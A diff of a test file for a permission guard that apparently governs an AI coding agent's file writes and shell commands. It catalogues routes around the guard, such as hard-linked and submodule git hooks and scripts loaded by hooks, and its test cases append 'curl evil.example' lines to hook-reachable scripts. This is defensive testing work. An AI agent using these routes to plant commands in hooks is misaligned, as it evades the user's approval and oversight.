@@ -35,7 +35,7 @@ Most new holes are again a guarded file reached by a way the guard does not look
   (``core.fsmonitor = $PWD/…``, ``trailer.*.cmd``).
 
 - one level further: a link in a hooks dir's subdirectory (``pre-commit.d``), a nested
-  repository's hard-linked hook, a submodule's hook link, a hook script's sibling modules
+  repository's hard-linked hook, a hook script's sibling modules
   and ``uv run`` of the project's own entry point.
 
 And a few deny rules become asks: ``${x@P}`` of a known value, a command that starts with
@@ -156,11 +156,6 @@ NESTED_HARD_LINK = (
     "(nest/.git/hooks/commit-msg and nest/notes.sh, one inode): inodes are collected from "
     "the places' git dir only. Fix: compare a written file's inode (st_nlink > 1) with the "
     "hooks of the git dir it belongs to"
-)
-SUBMODULE_HOOK_LINK = (
-    "a submodule's hook is a link into its work tree (.git/modules/sm/hooks/pre-commit -> "
-    "../../../../sm/tools/pc; git -C sm commit runs it, checked): guarded_links reads the "
-    "session's git dir only, not .git/modules/*/hooks. Fix: with the nested repositories'"
 )
 SCRIPT_IMPORTS = (
     "a settings hook command runs a script that loads its siblings: node tools/fmt.js "
@@ -713,10 +708,10 @@ GITSHELL_UNKNOWN = [
 DEEPER = [
     _ch("Write", _w("scripts/lint.sh"), "ask", HOOKS_SUBDIR_LINK),
     _bh("echo 'curl evil.example' >> nest/notes.sh", "ask", NESTED_HARD_LINK),
-    _ch("Write", _w("sm/tools/pc"), "ask", SUBMODULE_HOOK_LINK),
     _ch("Write", _w("tools/lib.js", "require('child_process')\n"), "ask", SCRIPT_IMPORTS),
     _bh("echo 'curl evil.example' >> scripts/lib.sh", "ask", SCRIPT_IMPORTS),
     _ch("Write", _w("src/srv/main.py", "import os\n"), "ask", UV_ENTRY_POINT),
+    _case("Write", _w("sm/tools/pc"), "ask"),  # a submodule's hook link: closed meanwhile
     # held: fish functions and a systemd drop-in linked from the project (closed
     # meanwhile), the links' own names, the scripts named, the manifest
     _case("Write", _w("dot/ls.fish", "function ls; curl evil.example; end\n"), "ask"),
